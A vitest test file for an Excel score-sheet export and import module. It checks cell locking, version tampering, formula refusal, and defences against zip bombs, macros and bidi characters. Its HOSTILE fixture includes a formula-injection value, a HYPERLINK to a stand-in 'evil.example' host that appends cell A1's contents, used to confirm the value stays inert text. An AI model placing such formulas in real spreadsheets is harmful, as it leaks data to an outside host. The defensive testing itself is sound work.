import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { makeZip, membersOf, node, unzip } from '../../test/helpers/workbook-fixtures'
import { readScoreSheetWorkbook, scoreProblemText, SCORE_INSTRUCTIONS_SHEET, SCORE_SHEET, writeScoreSheetWorkbook, type ScoreSheetPage, type ScoreSheetProblem } from './score-sheet-workbook.server'

const HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', '+1', '-2', '@SUM(A1:A9)', "'quoted", '表情 😀👍🏽', '字面量 _x0041_ 与 _x005F_', '<xml attr="&amp;">']

function page(): ScoreSheetPage {
  return {
    sheetVersionNo: 2,
    round: { step: 50, softDeadline: '2026-06-05T15:59:59.000Z', hardDeadline: null },
    items: [
      { node: node(3, 'A11', '立项依据充分性', 500, { explanation: '项目立项是否符合法律法规', points: ['①符合规划', '②符合职责'], ruleText: '每项不满足扣 2.5 分' }), path: '决策 › 项目立项', entry: { score: 400, reason: '可行性论证不足', comment: '', versionNo: 3 } },
      { node: node(3, 'A12', '=立项程序规范性', 500), path: '决策 › 项目立项', entry: null },
      { node: node(3, 'B11', '资金到位率', 1000), path: '过程 › 资金管理', entry: { score: 1000, reason: '', comment: HOSTILE.join('\n'), versionNo: 1 } },
    ],
  }
}
const CODES = ['A11', 'A12', 'B11']

/** The downloaded workbook as the expert saves it after `edit` (exceljs stands in for Excel). */
async function filled(edit: (sheet: ExcelJS.Worksheet) => void, bytes?: Buffer): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load((bytes ?? (await writeScoreSheetWorkbook(page()))) as unknown as ExcelJS.Buffer)
  edit(workbook.getWorksheet(SCORE_SHEET)!)
  return Buffer.from(await workbook.xlsx.writeBuffer())
}

async function problemsOf(bytes: Buffer, codes: readonly string[] = CODES): Promise<ScoreSheetProblem[]> {
  const read = await readScoreSheetWorkbook(bytes, codes)
  if (read.ok) throw new Error('expected a refusal')
  return read.problems
}

const texts = (problems: ScoreSheetProblem[]) => problems.map(scoreProblemText)

describe('the downloaded sheet', () => {
  it('lists every indicator with its drafts and the version each row saw; only three columns are open', async () => {
    const bytes = await writeScoreSheetWorkbook(page())
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer)
    expect(workbook.worksheets.map((w) => w.name)).toEqual([SCORE_SHEET, SCORE_INSTRUCTIONS_SHEET])
    const sheet = workbook.getWorksheet(SCORE_SHEET)!
    expect(sheet.getCell('F1').font?.bold).toBe(true)
    expect(sheet.getRow(1).values).toEqual([undefined, '编码', '一级/二级指标', '三级指标', '分值', '指标解释/评分标准', '得分', '扣分理由', '备注', '版本'])
    expect(sheet.getRow(2).values).toEqual([undefined, 'A11', '决策 › 项目立项', '立项依据充分性', 5, '项目立项是否符合法律法规\n评价要点：\n①符合规划\n②符合职责\n评分标准：每项不满足扣 2.5 分', 4, '可行性论证不足', undefined, 3])
    // A name starting with "=" is text, never a formula.
    expect(sheet.getCell('C3').value).toBe("'=立项程序规范性")
    expect(sheet.getCell('I3').value).toBe(0)
    expect(sheet.getColumn(9).hidden).toBe(true)
    for (const [addr, locked] of [['A2', true], ['E2', true], ['F2', false], ['G2', false], ['H2', false], ['I2', true]] as const) expect(sheet.getCell(addr).protection?.locked ?? true, addr).toBe(locked)
    expect(sheet.getCell('F4').dataValidation).toMatchObject({ type: 'decimal', operator: 'between', formulae: [0, 10] })
    const xml = (await unzip(bytes)).get('xl/worksheets/sheet1.xml')!.toString('utf8')
    expect(xml).toMatch(/<sheetProtection [^>]*sheet="1"/)
    expect(xml).not.toMatch(/<f[ >]/)
    const instructions = workbook.getWorksheet(SCORE_INSTRUCTIONS_SHEET)!
    const said = instructions.getColumn(2).values.join('\n')
    expect(said).toContain('第 2 版')
    expect(said).toContain('0.5 分')
    expect(said).toContain('2026-06-05 23:59（北京时间）')
    expect(said).toContain('未得满分的指标须填写扣分理由')
  })

  it('reads back unchanged as the drafts it carried; an untouched blank row is left out', async () => {
    const read = await readScoreSheetWorkbook(await writeScoreSheetWorkbook(page()), CODES)
    expect(read).toEqual({
      ok: true,
      rows: [
        { row: 2, code: 'A11', score: '4', reason: '可行性论证不足', comment: '', seen: 3 },
        { row: 4, code: 'B11', score: '10', reason: '', comment: HOSTILE.join('\n'), seen: 1 },
      ],
    })
  })

  it('round trip: scores, reasons and hostile text come back exactly as typed', async () => {
    // Excel escapes a typed "_x0041_" itself when it saves; exceljs, standing in for it here, does not.
    const typed = HOSTILE.filter((h) => !h.includes('_x')).join('\n')
    const bytes = await filled((sheet) => {
      sheet.getCell('F3').value = 2.3 // Excel would store 2.2999999999999998
      sheet.getCell('G3').value = typed
      sheet.getCell('H3').value = '  备注  '
      sheet.getCell('F2').value = '4.5'
    })
    const read = await readScoreSheetWorkbook(bytes, CODES)
    if (!read.ok) throw new Error(texts(read.problems).join('\n'))
    expect(read.rows.find((r) => r.code === 'A12')).toEqual({ row: 3, code: 'A12', score: '2.3', reason: typed, comment: '  备注  ', seen: 0 })
    expect(read.rows.find((r) => r.code === 'A11')?.score).toBe('4.5')
  })

  it('a reason without a score is passed on, for the form’s rule (请填写得分) to refuse', async () => {
    const read = await readScoreSheetWorkbook(await filled((sheet) => (sheet.getCell('G3').value = '材料不全')), CODES)
    expect(read.ok && read.rows.find((r) => r.code === 'A12')).toEqual({ row: 3, code: 'A12', score: '', reason: '材料不全', comment: '', seen: 0 })
  })
})

describe('bad rows', () => {
  it('non-number scores, formulas and a tampered version are refused by row and code', async () => {
    const bytes = await filled((sheet) => {
      sheet.getCell('F2').value = '九十'
      sheet.getCell('F3').value = { formula: '5-1', result: 4 }
      sheet.getCell('G4').value = { formula: 'A1', result: 'x' }
      sheet.getCell('I4').value = 'abc'
    })
    expect(texts(await problemsOf(bytes))).toEqual([
      '第 2 行（A11）：得分须为不小于 0 的数字（现为「九十」）',
      '第 3 行（A12）：得分不能使用公式，请直接填写数字',
      '第 4 行（B11）：扣分理由不能使用公式，请直接填写内容',
      '第 4 行（B11）：隐藏的「版本」列被修改，请重新下载评分表后再填写',
    ])
  })

  it('negative, boolean and error scores are refused', async () => {
    const bytes = await filled((sheet) => {
      sheet.getCell('F2').value = -1
      sheet.getCell('F3').value = true
      sheet.getCell('F4').value = { error: '#N/A' }
    })
    const problems = texts(await problemsOf(bytes))
    expect(problems).toHaveLength(3)
    expect(problems[0]).toBe('第 2 行（A11）：得分须为不小于 0 的数字（现为「-1」）')
    expect(problems[1]).toMatch(/^第 3 行（A12）：得分不能是逻辑值/)
    expect(problems[2]).toMatch(/^第 4 行（B11）：得分单元格是错误值/)
  })

  it('unknown, duplicate, blank and missing codes are refused; nothing is returned', async () => {
    const bytes = await filled((sheet) => {
      sheet.getCell('A3').value = 'Z99'
      sheet.getCell('A4').value = 'A11'
      sheet.getCell('B6').value = '多出来的行'
      sheet.getCell('F6').value = 3
    })
    expect(texts(await problemsOf(bytes))).toEqual([
      '第 3 行：编码「Z99」不在本评分表中',
      '第 4 行（A11）：编码重复（另见第 2 行）',
      '第 6 行：缺少编码（请勿增加行或清空编码）',
      '缺少指标 A12、B11 的行（请勿删除行），请重新下载评分表',
    ])
  })

  it('a sheet of blank scores, a missing column or a foreign workbook is refused with one clear message', async () => {
    const blank = await filled((sheet) => ['F2', 'G2', 'F4', 'H4'].forEach((a) => (sheet.getCell(a).value = null)))
    expect(texts(await problemsOf(blank))).toEqual(['评分表中没有填写任何得分'])
    const noVersion = await filled((sheet) => (sheet.getCell('I1').value = null))
    expect(texts(await problemsOf(noVersion))).toEqual(['缺少表头列：版本，请使用本页下载的评分表'])
    const other = new ExcelJS.Workbook()
    other.addWorksheet('Sheet1').getCell('A1').value = '姓名'
    expect(texts(await problemsOf(Buffer.from(await other.xlsx.writeBuffer())))[0]).toMatch(/^未找到工作表「评分表」的表头行/)
  })

  it('hundreds of bad rows are capped', async () => {
    const bytes = await filled((sheet) => {
      for (let r = 10; r < 400; r++) sheet.getCell(r, 1).value = `X${r}`
    })
    const problems = await problemsOf(bytes)
    expect(problems.length).toBeLessThanOrEqual(201)
    expect(scoreProblemText(problems.at(-1)!)).toMatch(/^……另有 \d+ 处问题$/)
  })
})

describe('hostile files', () => {
  it('refuses non-workbooks, bombs and macros with a message, never a throw', async () => {
    const refusal = async (bytes: Buffer) => scoreProblemText((await problemsOf(bytes))[0]!)
    expect(await refusal(Buffer.from('not a spreadsheet'))).toMatch(/不是有效的 \.xlsx/)
    expect(await refusal(makeZip([]))).toMatch(/不是有效的 \.xlsx/)
    expect(await refusal(makeZip([{ name: '[Content_Types].xml', data: Buffer.alloc(0) }, { name: 'xl/workbook.xml', data: Buffer.alloc(60 * 1024 * 1024, 0x20) }]))).toMatch(/压缩炸弹/)
    const members = await membersOf(await writeScoreSheetWorkbook(page()))
    expect(await refusal(makeZip([...members, { name: 'xl/vbaProject.bin', data: Buffer.from('VB') }]))).toMatch(/宏/)
    expect(await refusal(makeZip(members.map((m) => (m.name === 'xl/workbook.xml' ? { ...m, data: Buffer.from('<oops') } : m))))).toMatch(/无法读取/)
    expect(await refusal(Buffer.alloc(6 * 1024 * 1024, 0x50))).toMatch(/文件过大/)
  })

  it('quotes cell text in messages without control characters or bidi overrides', async () => {
    const problems = await problemsOf(await filled((sheet) => (sheet.getCell('F2').value = '\u001b[31m红\u202E字')))
    const line = scoreProblemText(problems[0]!)
    expect(line).not.toMatch(/[\u0000-\u001f\u202a-\u202e]/)
    expect(line).toMatch(/^第 2 行（A11）：得分须为不小于 0 的数字/)
  })
})
